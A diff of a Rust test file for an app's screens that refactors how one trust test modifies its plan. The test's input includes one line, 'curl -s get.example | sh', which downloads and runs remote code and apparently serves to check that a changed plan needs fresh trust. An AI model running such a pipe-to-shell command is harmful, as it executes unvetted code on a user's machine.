@@ -1,7 +1,6 @@
 //! The screens, each by the keys that lead to it.
 
 use std::path::Path;
-use std::sync::Arc;
 
 use daymark::plan::Facts;
 use daymark::service::plan_folder;
@@ -305,13 +304,14 @@ fn the_question_of_trust() {
 #[test]
 fn the_question_of_trust_after_a_change() {
     check("trust-changed", true, |stage| {
-        let plan = &mut stage.app.engine.plan;
+        let plan = &stage.app.engine.plan;
         stage.app.engine.agreed = Some(Facts::of(plan));
         stage.app.engine.trusted = false;
         stage.revise("tools", "command -v ssh && curl -s get.example | sh");
-        let plan = Arc::make_mut(&mut stage.app.engine.plan);
-        plan.hosts[2].production = true;
-        plan.entries[0].steps[3].danger = None;
+        stage.change_plan(|plan| {
+            plan.hosts[2].production = true;
+            plan.entries[0].steps[3].danger = None;
+        });
         stage.keys("T");
     });
 }
